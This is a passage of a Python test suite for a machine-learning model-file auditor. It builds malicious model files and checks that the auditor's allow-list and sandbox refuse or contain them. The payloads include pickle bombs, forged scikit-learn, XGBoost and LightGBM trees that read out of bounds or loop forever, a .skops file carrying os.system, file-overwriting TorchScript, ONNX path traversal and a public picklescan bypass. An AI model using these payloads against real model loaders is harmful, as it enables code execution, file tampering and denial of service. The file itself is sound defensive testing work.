    chain = EMPTY_TUPLE + put(0) + POP
    for k in range(100):
        chain += get(k) + get(k) + b"\x86" + put(k + 1) + POP
    return t.write("hash.pkl", PROTO + b"\x04" + EMPTY_DICT + chain + get(100) + b"N" + b"s" + STOP)


@attack("expands")
def billion_laughs(t: Target) -> Path:
    """x(k+1) = [xk, xk] to depth 80: 2 KB of pickle, 2**80 objects for repr or a recursive walk."""
    chain = EMPTY_LIST + put(0) + POP
    for k in range(80):
        chain += MARK + get(k) + get(k) + b"l" + put(k + 1) + POP
    return t.write("laughs.pkl", PROTO + b"\x04" + chain + get(80) + STOP)


@attack("levels deep")
def deep_nesting(t: Target) -> Path:
    """100,000 nested lists: fine to build, a RecursionError (exit 3) for whatever walks it later."""
    n = 100_000
    return t.write("deep.pkl", PROTO + b"\x04" + EMPTY_LIST * n + b"a" * (n - 1) + b".")


for _bomb in ("zlib_bomb", "gzip_bomb", "bz2_bomb", "xz_bomb"):
    def _default_cap(t: Target, build: Callable[[Target], Path] = ATTACKS[_bomb].build) -> Path:
        return build(t)
    _default_cap.__name__ = f"{_bomb}_default_cap"
    _default_cap.__doc__ = f"{ATTACKS[_bomb].doc.split(':')[0]}, against the default cap (streams 2 GiB, then stops)."
    attack("decompressed bytes", slow=True)(_default_cap)


# --- 8. state that compiled predict code trusts ------------------------------------------------------------

def _tree_model() -> Any:
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    X = rng.normal(size=(60, 3))
    return DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, (X[:, 0] > 0).astype(int))


class _ForgedTree:
    """Pickles as sklearn.tree._tree.Tree with a chosen state."""

    def __init__(self, tree: Any, state: dict[str, Any]) -> None:
        self.args, self.state = tree.__reduce__()[1], state

    def __reduce__(self) -> tuple[Any, ...]:
        from sklearn.tree._tree import Tree

        return Tree, self.args, self.state


@attack("decision tree")
def tree_child_index_out_of_range(t: Target) -> Path:
    """A decision tree whose root points at node 1,000,000: predict would read outside the node array."""
    model = _tree_model()
    state = model.tree_.__getstate__()
    state["nodes"] = state["nodes"].copy()
    state["nodes"]["left_child"][0] = 1_000_000
    model.tree_ = _ForgedTree(model.tree_, state)
    return t.write("tree_oob.pkl", pickle.dumps(model))


@attack("decision tree")
def tree_cycle(t: Target) -> Path:
    """A decision tree whose child points back to the root: predict would loop forever."""
    model = _tree_model()
    state = model.tree_.__getstate__()
    state["nodes"] = state["nodes"].copy()
    state["nodes"]["right_child"][0] = 0
    model.tree_ = _ForgedTree(model.tree_, state)
    return t.write("tree_cycle.pkl", pickle.dumps(model))


@attack("features but its estimator takes")
def tree_reads_more_features_than_the_input(t: Target) -> Path:
    """A decision tree whose splits index feature 5 of an estimator fitted on 3 columns: predict reads past each row."""
    model = _tree_model()
    state = model.tree_.__getstate__()
    args = list(model.tree_.__reduce__()[1])
    args[0] = 6
    forged = _ForgedTree(model.tree_, state)
    forged.args = tuple(args)
    model.tree_ = forged
    return t.write("tree_features.pkl", pickle.dumps(model))


@attack("HistGradientBoosting")
def hgb_feature_index_out_of_range(t: Target) -> Path:
    """A HistGradientBoosting tree splitting on feature 50 of a model fitted on 3 columns."""
    from sklearn.ensemble import HistGradientBoostingClassifier

    rng = np.random.default_rng(0)
    X = rng.normal(size=(80, 3))
    model = HistGradientBoostingClassifier(max_iter=3).fit(X, (X[:, 0] > 0).astype(int))
    pred = model._predictors[0][0]
    pred.nodes = pred.nodes.copy()
    pred.nodes["feature_idx"][0] = 50
    return t.write("hgb_feature.pkl", pickle.dumps(model))


@attack("HistGradientBoosting")
def hgb_predictor_out_of_range(t: Target) -> Path:
    """A HistGradientBoosting tree with a child index outside its nodes (skops' reason not to trust TreePredictor)."""
    from sklearn.ensemble import HistGradientBoostingClassifier

    rng = np.random.default_rng(0)
    X = rng.normal(size=(80, 3))
    model = HistGradientBoostingClassifier(max_iter=3).fit(X, (X[:, 0] > 0).astype(int))
    pred = model._predictors[0][0]
    pred.nodes = pred.nodes.copy()
    pred.nodes["left"][0] = 60_000
    return t.write("hgb_oob.pkl", pickle.dumps(model))


@attack("neighbors tree")
def kd_tree_index_out_of_range(t: Target) -> Path:
    """A KD tree whose index array points past its data."""
    from sklearn.neighbors import KDTree

    tree = KDTree(np.random.default_rng(0).normal(size=(20, 2)))
    func, args, state = tree.__reduce__()
    state = list(state)
    state[1] = state[1].copy()
    state[1][0] = 10**9
    return t.write("kdtree.pkl", pickle.dumps(ReduceState(func, args, tuple(state))))


@attack("sparse matrix")
def sparse_matrix_index_out_of_range(t: Target) -> Path:
    """A CSR matrix (as an SVC fitted on sparse data holds) whose column index points far outside its shape."""
    import scipy.sparse as sp

    m = sp.csr_matrix(np.eye(3))
    m.indices = m.indices.copy()
    m.indices[0] = 10**6
    return t.write("sparse.pkl", pickle.dumps(m))


@attack("XGBoost Booster")
def xgboost_booster_wrong_state(t: Target) -> Path:
    """An XGBoost Booster whose model handle is not a bytearray (it goes straight to C++ through ctypes)."""
    body = sglob("xgboost.core", "Booster") + EMPTY_TUPLE + NEWOBJ + dct(handle=s("not bytes")) + BUILD
    return t.write("xgb.pkl", prog(body, 4))


# --- 9. skops, TorchScript, ONNX ----------------------------------------------------------------------------

@attack("posix.system")
def skops_function_node(t: Target) -> Path:
    """A .skops file whose FunctionTransformer holds os.system (skops stores functions by name; it runs at predict)."""
    import skops.io as sio
    from sklearn.preprocessing import FunctionTransformer

    path = t.dir / "func.skops"
    sio.dump(FunctionTransformer(os.system, kw_args={}), path)
    return path


@attack("reciprocal_gen", live=True)
def skops_scipy_template(t: Target) -> Path:
    """A .skops RandomizedSearchCV whose distribution carries an exec payload (skops calls __setstate__)."""
    import skops.io as sio

    search = _search("continuous")
    search.param_distributions["C"].dist._parse_arg_template = _evil_template(t)
    path = t.dir / "search.skops"
    sio.dump(search, path)
    return path


@attack("decision tree")
def skops_tree_out_of_range(t: Target) -> Path:
    """A .skops decision tree whose node array (an .npy inside the zip) points outside itself."""
    import skops.io as sio

    path = t.dir / "tree.skops"
    sio.dump(_tree_model(), path)
    with zipfile.ZipFile(path) as zin:
        entries = {n: zin.read(n) for n in zin.namelist()}
    for name, data in entries.items():
        if name.endswith(".npy"):
            arr = np.load(io.BytesIO(data), allow_pickle=False)
            if arr.dtype.names and "left_child" in arr.dtype.names:
                arr = arr.copy()
                arr["left_child"][0] = 1_000_000
                out = io.BytesIO()
                np.save(out, arr, allow_pickle=False)
                entries[name] = out.getvalue()
    with zipfile.ZipFile(path, "w") as zout:
        for name, data in entries.items():
            zout.writestr(name, data)
    return path


def _torch_setstate_writer(t: Target) -> Path:
    import torch

    target = str(t.sentinel)

    class Evil(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.path = target
            self.buf = torch.zeros(8, dtype=torch.uint8)

        @torch.jit.export
        def __getstate__(self) -> Tuple[str, bool]:  # noqa: UP006 - TorchScript reads typing.Tuple
            return (self.path, self.training)

        @torch.jit.export
        def __setstate__(self, state: Tuple[str, bool]) -> None:  # noqa: UP006
            self.path = state[0]
            self.training = state[1]
            data = torch.from_file(self.path, shared=True, size=8, dtype=torch.uint8)
            data.fill_(65)
            self.buf = data

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

    path = t.dir / "evil_setstate.pt"
    torch.jit.save(torch.jit.script(Evil()), str(path))
    return path


@attack("__setstate__", live=True)
def torchscript_setstate_overwrites_a_file(t: Target) -> Path:
    """TorchScript __setstate__ runs in torch.jit.load; torch.from_file(shared=True) there overwrites a file."""
    return _torch_setstate_writer(t)


@attack("torch.from_file")
def torchscript_from_file_in_forward(t: Target) -> Path:
    """torch.from_file in forward: a file written whenever the audit predicts."""
    import torch

    class Writer(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            data = torch.from_file(self.path, shared=True, size=8, dtype=torch.uint8)
            data.fill_(66)
            return x + data.sum()

    path = t.dir / "from_file.pt"
    torch.jit.save(torch.jit.script(Writer(str(t.sentinel))), str(path))
    return path


def _edited_torchscript(t: Target, name: str, old: str, new: str) -> Path:
    import torch

    class Plain(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(self.lin(x))

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Plain()), buf)
    path = t.dir / name
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(path, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if "/code/" in item.filename and item.filename.endswith(".py"):
                data = data.decode().replace(old, new).encode()
            zout.writestr(item, data)
    return path


@attack("custom op")
def torchscript_custom_op(t: Target) -> Path:
    """TorchScript calling ops.evil_lib.run (a custom-op library's kernel) instead of relu."""
    return _edited_torchscript(t, "custom_op.pt", "torch.relu(", "ops.evil_lib.run(")


@attack("torch.save")
def torchscript_save_op(t: Target) -> Path:
    """TorchScript code edited to call torch.save."""
    return _edited_torchscript(t, "save_op.pt", "torch.relu(", "torch.save(")


def _onnx_with_external(t: Target, name: str, location: str) -> Path:
    import onnx
    from onnx import TensorProto, helper

    tensor = helper.make_tensor("w", TensorProto.FLOAT, [2], [0.0, 0.0])
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "8")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [tensor])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    folder = t.dir / name
    folder.mkdir(exist_ok=True)
    path = folder / "model.onnx"
    onnx.save(model, str(path))
    return path


@attack("outside the model's folder")
def onnx_external_data_traversal(t: Target) -> Path:
    """ONNX external data at ../sentinel: onnxruntime reads any file the process can, into a weight."""
    return _onnx_with_external(t, "onnx_traversal", "../sentinel")


@attack("absolute path")
def onnx_external_data_absolute(t: Target) -> Path:
    """ONNX external data at an absolute path."""
    return _onnx_with_external(t, "onnx_absolute", str(t.sentinel))


@attack("symbolic link")
def onnx_external_data_symlink(t: Target) -> Path:
    """ONNX external data through a symbolic link inside the model's folder that points out of it."""
    path = _onnx_with_external(t, "onnx_symlink", "weights.bin")
    (path.parent / "weights.bin").symlink_to(t.sentinel)
    return path


@attack("custom domain")
def onnx_custom_op_domain(t: Target) -> Path:
    """An ONNX node in a custom-op domain (needs a native library registered with onnxruntime)."""
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("Run", ["x"], ["y"], domain="evil.ops")], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("evil.ops", 1)])
    path = t.dir / "custom.onnx"
    onnx.save(model, str(path))
    return path


# ---------------------------------------------------------------------------------------------- round 3: after loading
# Files the loader's allow-list admits (or that no allow-list reads: compiled graphs) whose harm comes when raudit
# *calls* the model. ``tests/test_jail.py`` audits each through the CLI twice: with the reviewed state on (refused when
# loading) and off (the jail alone must contain it: exit 2, nothing written, no effect). ``expect``: a phrase of the
# refusal or of the jail's message, one for each mode.

@dataclass(frozen=True)
class JailAttack:
    """A model that misbehaves when called, and what each layer says about it."""

    name: str
    build: Callable[[Target], Path]
    refused: str      # phrase of the refusal with the reviewed state on
    contained: str    # phrase of the jail's message with the reviewed state off
    doc: str
    slow: bool = False
    flags: tuple[str, ...] = ()
    jail_flags: tuple[str, ...] = ()  # added with the reviewed state off (they come last, so they win)
    contained_exit: int = 2           # the exit code with the reviewed state off (3: a library's BaseException)


JAIL_ATTACKS: dict[str, JailAttack] = {}


def jail_attack(refused: str, contained: str, *, slow: bool = False, flags: tuple[str, ...] = (),
                jail_flags: tuple[str, ...] = (), contained_exit: int = 2) -> Callable[[Any], Any]:
    def register(fn: Callable[[Target], Path]) -> Callable[[Target], Path]:
        JAIL_ATTACKS[fn.__name__] = JailAttack(fn.__name__, fn, refused, contained, (fn.__doc__ or "").strip(), slow, flags,
                                               jail_flags, contained_exit)
        return fn
    return register


def _credit_model(t: Target, model: Any, columns: list[str], name: str) -> Path:
    import joblib

    from tests.zoo import data

    df = data(200)
    model.fit(df[columns], df["approved"])
    path = t.dir / name
    joblib.dump(model, path)
    return path


_NUM = ["age", "income", "debt_to_income", "previous_defaults"]


@jail_attack("decision tree", "crashed")
def corrupt_tree_segfaults(t: Target) -> Path:
    """A decision tree whose root's child is node 10**8: scikit-learn's compiled predict reads far outside its nodes."""
    from sklearn.tree import DecisionTreeClassifier

    path = _credit_model(t, DecisionTreeClassifier(max_depth=3, random_state=0), _NUM, "tree.joblib")
    model = __import__("joblib").load(path)
    state = model.tree_.__getstate__()
    state["nodes"] = state["nodes"].copy()
    state["nodes"]["left_child"][0] = 10**8
    state["nodes"]["right_child"][0] = 10**8
    model.tree_ = _ForgedTree(model.tree_, state)
    return t.write("tree_segv.pkl", pickle.dumps(model))


@jail_attack("decision tree", "wall-time limit", flags=("--jail-limit", "wall=25"))
def tree_cycle_hangs_predict(t: Target) -> Path:
    """A decision tree whose child points back at the root: predict never returns."""
    from sklearn.tree import DecisionTreeClassifier

    path = _credit_model(t, DecisionTreeClassifier(max_depth=3, random_state=0), _NUM, "tree.joblib")
    model = __import__("joblib").load(path)
    state = model.tree_.__getstate__()
    state["nodes"] = state["nodes"].copy()
    nodes = state["nodes"]
    inner = np.flatnonzero(nodes["left_child"] != -1)
    for k in inner:
        nodes["left_child"][k] = 0
        nodes["right_child"][k] = 0
    model.tree_ = _ForgedTree(model.tree_, state)
    return t.write("tree_loop.pkl", pickle.dumps(model))


@jail_attack("token_pattern", "wall-time limit", flags=("--jail-limit", "wall=25", "--text-column", "note"))
def token_pattern_hangs_on_ordinary_text(t: Target) -> Path:
    """A text vectoriser whose token_pattern backtracks exponentially on ordinary words ((\\w+)+ followed by a mismatch)."""
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline

    model = make_pipeline(CountVectorizer(), LogisticRegression())
    texts = ["good loan paid early", "late default risky"] * 20
    model.fit(texts, [1, 0] * 20)
    model[0].token_pattern = r"(\w+\s?)+$\d"
    return t.write("pattern.pkl", pickle.dumps(model))


@jail_attack("range", "memory limit", flags=("--jail-limit", "memory=3GiB"))
def range_materialised_at_predict(t: Target) -> Path:
    """A model whose classes_ is range(10**9): lazy in the file, 8 GB once the audit makes an array of it."""
    from sklearn.linear_model import LogisticRegression

    path = _credit_model(t, LogisticRegression(max_iter=300), _NUM, "lr.joblib")
    model = __import__("joblib").load(path)
    model.classes_ = range(10**9)
    return t.write("range.pkl", pickle.dumps(model))


def _xgb(t: Target) -> Any:
    from xgboost import XGBClassifier

    from tests.zoo import data

    df = data(200)
    return XGBClassifier(n_estimators=3, max_depth=2, n_jobs=1, random_state=0).fit(df[_NUM], df["approved"])


@jail_attack("XGBoost Booster", "crashed")
def xgboost_split_feature_out_of_range(t: Target) -> Path:
    """An XGBoost model (JSON inside the pickle) whose root splits on feature 10**8: its C++ predict reads past each row."""
    import json as _json

    model = _xgb(t)
    booster = model.get_booster()
    raw = _json.loads(bytes(booster.save_raw("json")))
    for tree in raw["learner"]["gradient_booster"]["model"]["trees"]:
        tree["split_indices"][0] = 10**8
    forged = type(booster)()
    forged.load_model(bytearray(_json.dumps(raw).encode()))
    model._Booster = forged
    return t.write("xgb_feature.pkl", pickle.dumps(model))


@jail_attack("LightGBM Booster", "wall-time limit", flags=("--jail-limit", "wall=25"))
def lightgbm_node_is_its_own_child(t: Target) -> Path:
    """A LightGBM model whose root node is its own left child: predict never returns."""
    from lightgbm import LGBMClassifier

    from tests.zoo import data

    df = data(200)
    model = LGBMClassifier(n_estimators=2, num_leaves=4, verbose=-1, n_jobs=1).fit(df[_NUM], df["approved"])
    text = model.booster_.model_to_string()
    head, sep, rest = text.partition("left_child=")
    values = rest.split("\n", 1)
    forged = head + sep + " ".join(["0"] + values[0].split()[1:]) + "\n" + values[1]
    forged = "\n".join(line for line in forged.splitlines() if not line.startswith("tree_sizes="))
    state = model.booster_.__getstate__()
    state["_handle"] = forged
    model._Booster = _BoosterState(type(model.booster_), state)
    return t.write("lgb_loop.pkl", pickle.dumps(model))


class _BoosterState:
    """Pickles as NEWOBJ of a Booster class with a chosen state (without parsing it here)."""

    def __init__(self, cls: Any, state: dict[str, Any]) -> None:
        self.cls, self.state = cls, state

    @property  # type: ignore[misc]
    def __class__(self) -> Any:  # pickle checks NEWOBJ's class against the object's
        return self.cls

    def __reduce__(self) -> tuple[Any, ...]:
        import copyreg

        return copyreg.__newobj__, (self.cls,), self.state


# reviewed: the default opcode cap counts the hashing and refuses it at once; jail alone: the cap is raised out of the
# way (10**12), so only the CPU limit can stop it (whatever the machine's speed)
@jail_attack("opcodes", "CPU limit", slow=True, flags=("--jail-limit", "cpu=10"),
             jail_flags=("--load-limit", "opcodes=1000000000000"))
def setitem_rehashes_a_long_key(t: Target) -> Path:
    """A 40 KB gzip pickle that sets one 8,191-element tuple key a million times: each SETITEM re-hashes the whole key."""
    key = MARK + b"K\x01" * 8191 + TUPLE + put(0) + POP
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    start = c.compress(PROTO + b"\x04" + key + EMPTY_DICT) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress((get(0) + b"N" + b"s") * (1 << 16)) + c.flush(zlib.Z_FULL_FLUSH)
    return t.write("rehash.joblib", start + block * 16 + c.compress(STOP) + c.flush())


@jail_attack("gadget", "gadget", flags=("--allow-module", "torch"))
def allow_module_torch_decoder_reaches_pickle_loads(t: Target) -> Path:
    """--allow-module torch: torch's datapipes decoder basichandlers calls pickle.loads (a public picklescan bypass)."""
    inner = pickle.dumps(Reduce(os.system, t.touch()))
    body = call(sglob("torch.utils.data.datapipes.utils.decoder", "basichandlers"), s("x.pickle"), b(inner))
    return t.write("basichandlers.pkl", prog(body, 4))


def _torchscript_loop(t: Target) -> Path:
    import torch

    class Spin(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            total = x.sum(dim=1, keepdim=True)
            for _ in range(1000000000000):
                total = total + 0.0
            return torch.cat([total, -total], dim=1)

    path = t.dir / "spin.pt"
    torch.jit.save(torch.jit.script(Spin()), str(path))
    return path


@jail_attack("wall-time limit", "wall-time limit", flags=("--jail-limit", "wall=25", "--features", ",".join(_NUM)))
def torchscript_loops_for_ever(t: Target) -> Path:
    """A TorchScript module made of reviewed ops only that loops 10**12 times per call (contained by the jail only)."""
    return _torchscript_loop(t)


def _onnx_scores(t: Target, name: str, nodes: list[Any], initializers: list[Any]) -> Path:
    """An ONNX classifier of the four numeric columns whose score output ``y`` is ``softmax(x @ w + 0 * bomb)``.

    ``nodes`` compute the scalar ``bomb`` from nothing but reviewed standard operators.
    """
    import onnx
    from onnx import TensorProto, helper

    w = helper.make_tensor("w", TensorProto.FLOAT, [4, 2], [0.01, -0.01] * 4)
    zero = helper.make_tensor("zero", TensorProto.FLOAT, [], [0.0])
    graph = helper.make_graph(
        [*nodes, helper.make_node("Mul", ["bomb", "zero"], ["nothing"]),
         helper.make_node("MatMul", ["x", "w"], ["xw"]), helper.make_node("Add", ["xw", "nothing"], ["logits"]),
         helper.make_node("Softmax", ["logits"], ["y"], axis=1)],
        "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 2])], [w, zero, *initializers])
    path = t.dir / name
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))
    return path


# onnxruntime's allocator fails inside the jail's address-space limit and says so (exit 2, the model named)
@jail_attack("Failed to allocate memory", "Failed to allocate memory",
             flags=("--jail-limit", "memory=3GiB", "--features", ",".join(_NUM)))
def onnx_constant_of_shape_allocates_gigabytes(t: Target) -> Path:
    """An ONNX graph of reviewed operators whose ConstantOfShape makes a 2·10**9-float (8 GB) tensor on every call."""
    from onnx import TensorProto, helper

    shape = helper.make_tensor("shape", TensorProto.INT64, [1], [2 * 10**9])
    nodes = [helper.make_node("ConstantOfShape", ["shape"], ["big"], value=helper.make_tensor("v", TensorProto.FLOAT, [1], [1.0])),
             helper.make_node("ReduceSum", ["big"], ["bomb"], keepdims=0)]
    return _onnx_scores(t, "constant_of_shape.onnx", nodes, [shape])


@jail_attack("wall-time limit", "wall-time limit", flags=("--jail-limit", "wall=25", "--features", ",".join(_NUM)))
def onnx_loop_runs_for_ever(t: Target) -> Path:
    """An ONNX Loop of reviewed operators with a trip count of 10**15 (it adds 0 to a scalar each time)."""
    from onnx import TensorProto, helper

    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["acc_in", "step"], ["acc_out"])],
        "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []), helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                 helper.make_tensor_value_info("acc_in", TensorProto.FLOAT, [])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), helper.make_tensor_value_info("acc_out", TensorProto.FLOAT, [])],
        [helper.make_tensor("step", TensorProto.FLOAT, [], [0.0])])
    trips = helper.make_tensor("trips", TensorProto.INT64, [], [10**15])
    cond = helper.make_tensor("cond", TensorProto.BOOL, [], [True])
    start = helper.make_tensor("start", TensorProto.FLOAT, [], [0.0])
    nodes = [helper.make_node("Loop", ["trips", "cond", "start"], ["bomb"], body=body)]
    return _onnx_scores(t, "loop.onnx", nodes, [trips, cond, start])


# reviewed: the pattern is refused before the tokenizer is built; jail alone: the Rust panic (a BaseException) is an
# internal error of the jailed child, exit 3 with the panic named, never 1 and never a traceback
@jail_attack("tokenizer.json", "PanicException", slow=True, contained_exit=3, flags=("--text-column", "note"))
def tokenizer_split_pattern_panics(t: Target) -> Path:
    """A Hugging Face folder whose tokenizer.json pre-tokenizer Split pattern backtracks past Oniguruma's retry limit."""
    import json as _json

    from tests.text_models import make_texts, save_hf, train_bert

    model, tokenizer = train_bert(make_texts(64, seed=0), steps=0)  # untrained: only its tokenizer matters
    folder = save_hf(model, tokenizer, t.dir / "hf_panic")
    spec = _json.loads((folder / "tokenizer.json").read_text())
    spec["pre_tokenizer"] = {"type": "Split", "pattern": {"Regex": "(\\w+\\s?)+$\\d"}, "behavior": "Isolated",
                             "invert": False}
    (folder / "tokenizer.json").write_text(_json.dumps(spec))
    return folder
